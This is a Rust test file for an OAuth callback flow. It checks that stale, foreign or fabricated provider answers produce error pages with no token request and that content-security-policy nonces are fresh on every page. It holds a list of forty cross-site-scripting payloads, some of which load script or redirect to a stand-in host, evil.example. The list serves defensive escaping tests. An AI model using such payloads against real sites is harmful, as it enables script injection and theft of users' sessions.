//! What comes back from a provider over HTTP when it should not: old, foreign, hostile answers, and what is said of them (behaviour 9;
//! threats 3, 9, 17 and 67).

use crate::{
    oauth::{begin, browser_of, come_back, connectable, page, peer},
    support::{Person, SERVERS, TestServer, over, server_body},
};
use api::users::Role;
use serde_json::json;
use testkit::{
    fake_oauth::{FakeOauth, approve, browser},
    http::{Answer, Client},
    raw_sql,
};

/// Texts that want to be markup, script, style or another attribute (threat 17).
const HOSTILE: [&str; 40] = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script src=\"data:text/javascript,alert(1)\"></script>",
    "</h1><script>alert(1)</script>",
    "</p><script>alert(1)</script><p>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</bdi></main><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<<script>alert(1)//<</script>",
    "<script\u{3000}>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=\"x\" onerror='alert(1)'",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><script>alert(1)</script>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>Start again</a>",
    "<form action=//evil.example><button>Sign in</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<style>@import '//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;<b>&#60;script&#62;",
    "{{constructor.constructor('alert(1)')()}}<b>${alert(1)}`",
];

/// The callback's address with these parameters.
fn answer_with(oauth: &FakeOauth, path: &str, state: &str, more: &[(&str, &str)]) -> String {
    let mut query = form_urlencoded::Serializer::new(String::new());
    query.append_pair("state", state).append_pair("iss", &oauth.issuer());
    query.extend_pairs(more);
    format!("{path}/oauth2/callback?{}", query.finish())
}

async fn begun_state(client: &Client, path: &str) -> String {
    browser::parameters(&begin(client, path).await)["state"].clone()
}

/// The markup of a page without its texts: what a browser takes for tags. The values of attributes are left out, their quotes are not.
fn skeleton(answer: &Answer) -> String {
    let mut bones = String::new();
    let (mut tag, mut quoted) = (false, false);
    for c in page(answer).chars() {
        match c {
            '<' if !quoted => tag = true,
            '"' if tag => quoted = !quoted,
            _ => {}
        }
        if tag && (!quoted || c == '"') || c == '<' || c == '>' {
            bones.push(c);
        }
        if c == '>' && !quoted {
            tag = false;
        }
    }
    bones
}

/// The one nonce that the policy allows, which styles and scripts of the page have.
fn nonce(answer: &Answer) -> String {
    let policy = answer.header("content-security-policy").unwrap();
    let nonce = policy.split("script-src 'nonce-").nth(1).unwrap().split('\'').next().unwrap().to_owned();
    assert!(nonce.len() >= 22 && policy.contains(&format!("style-src 'nonce-{nonce}'")), "{policy}");
    let with = format!("nonce=\"{nonce}\"");
    let (all, ours) = (answer.body.matches("nonce=").count(), answer.body.matches(&with).count());
    assert!(all == ours && all >= 1, "{}", answer.body);
    nonce
}

/// Threat 17: forty texts in `error`, `error_description` and the server's name: on each page the markup is that of a page with plain words,
/// and every nonce is new.
#[tokio::test]
async fn forty_hostile_texts_are_text_on_every_page() {
    let oauth = peer().await;
    let server = TestServer::start().await;
    let path = connectable(&server, &oauth, "linear").await;
    let client = browser_of(&server, &server.user(Role::Member).await);
    let mut plain: Option<[String; 3]> = None;
    let mut nonces = std::collections::BTreeSet::new();
    for words in std::iter::once("plain words").chain(HOSTILE) {
        let name = json!({"display_name": words});
        server.owner().patch(&path, &name).await.expect(200);
        let code = answer_with(&oauth, &path, &begun_state(&client, &path).await, &[("error", words)]);
        let both = [("error", "access_denied"), ("error_description", words)];
        let both = answer_with(&oauth, &path, &begun_state(&client, &path).await, &both);
        let pages = [
            client.get(&code).await.expect(400),
            client.get(&both).await.expect(400),
            come_back(&client, &approve(&begin(&client, &path).await).await).await.expect(200),
        ];
        for shown in &pages {
            assert!(nonces.insert(nonce(shown)), "a nonce came twice");
            assert!(words == "plain words" || !shown.body.contains(words), "{words}: {}", shown.body);
            let start = words.chars().take(6).collect::<String>().replace('&', "&amp;").replace('<', "&lt;");
            let start = start.replace('>', "&gt;").replace('"', "&quot;").replace('\'', "&#39;");
            assert!(shown.body.contains(&start), "{words} is shown: {}", shown.body);
        }
        let bones = pages.each_ref().map(skeleton);
        match &plain {
            None => plain = Some(bones),
            Some(plain) => assert_eq!(&bones, plain, "{words}"),
        }
    }
    assert_eq!(nonces.len(), 3 * (HOSTILE.len() + 1));
}

/// Threats 3 and 9: an answer that is too old, somebody else's, used, made up or of nothing is a page that says so; nobody is asked for a
/// token.
#[tokio::test]
async fn answers_that_are_none_get_a_page_and_no_token_request() {
    let oauth = peer().await;
    let server = TestServer::start().await;
    let path = connectable(&server, &oauth, "linear").await;
    let person = server.user(Role::Member).await;
    let client = browser_of(&server, &person);
    let nothing = |answer: &Answer, words: &str| {
        assert!(page(answer).contains(words), "{words}: {}", answer.body);
        assert!(
            answer.body.contains("Nothing was changed") || words == "no sign-in of ours",
            "{}",
            answer.body
        );
        nonce(answer);
        assert!(oauth.token_requests("authorization_code").is_empty());
    };
    // Ten minutes are over.
    let expired = approve(&begin(&client, &path).await).await;
    let sql = "UPDATE mcp_oauth_flows SET expires_at = created_at - 1";
    assert_eq!(raw_sql(&server.running.db, sql).await.unwrap(), 1);
    nothing(&come_back(&client, &expired).await.expect(400), "has expired or was used already");
    // Somebody else's, and the same person's of another session.
    let foreign = approve(&begin(&client, &path).await).await;
    let other = server.user(Role::Member).await;
    let elsewhere = Person { token: server.login(&person.email, &person.password).await, ..person };
    for somebody in [&other, &elsewhere] {
        let refused = come_back(&browser_of(&server, somebody), &foreign).await.expect(403);
        nothing(&refused, "begun by somebody else");
    }
    // Made up, and left out.
    let made_up = answer_with(&oauth, &path, "nobody-ever-began-this", &[("code", "x")]);
    nothing(&client.get(&made_up).await.expect(400), "has expired or was used already");
    for none in ["", "?state=", "?code=x", "?state=a&state=a&code=x"] {
        let refused = client.get(&format!("{path}/oauth2/callback{none}")).await.expect(400);
        nothing(&refused, "no sign-in of ours");
    }
    // Nothing of all that used up what is good.
    come_back(&client, &foreign).await.expect(200);
    let again = come_back(&client, &foreign).await.expect(400);
    assert!(page(&again).contains("was used already"), "{}", again.body);
    assert_eq!(oauth.token_requests("authorization_code").len(), 1);
}

/// Behaviour 9: the order of the checks: who is not signed in learns nothing of an address, not even that it is none.
#[tokio::test]
async fn an_address_that_is_none_is_a_page_too() {
    let server = TestServer::start().await;
    let client = browser_of(&server, &server.user(Role::Member).await);
    for id in
        ["x", "%00", "1", "00000000-0000-0000-0000-000000000000", "01930000-0000-7000-8000-000000000001"]
    {
        let callback = format!("{SERVERS}/{id}/oauth2/callback?state=s&code=c");
        let nobody = server.anonymous().get(&callback).await.expect(401);
        assert!(page(&nobody).contains("Sign in"), "{}", nobody.body);
        let somebody = client.get(&callback).await.expect(404);
        assert!(page(&somebody).contains("There is no such server"), "{}", somebody.body);
    }
}

/// Threat 67: without the database the way back is a page that says to reload, not JSON; and whoever asks is not taken for nobody.
#[tokio::test]
async fn without_the_database_the_way_back_is_a_page() {
    let oauth = peer().await;
    let server = TestServer::start().await;
    let body = over(server_body("linear", &oauth.url()), json!({"auth_type": "oauth2", "enabled": true}));
    let path = format!("{SERVERS}/{}", server.register(&body).await);
    let client = browser_of(&server, &server.user(Role::Member).await);
    let callback = approve(&begin(&client, &path).await).await;
    server.running.db.close().await;
    let refused = come_back(&client, &callback).await.expect(503);
    assert!(page(&refused).contains("Nothing was used up"), "{}", refused.body);
    nonce(&refused);
    assert!(oauth.token_requests("authorization_code").is_empty());
}
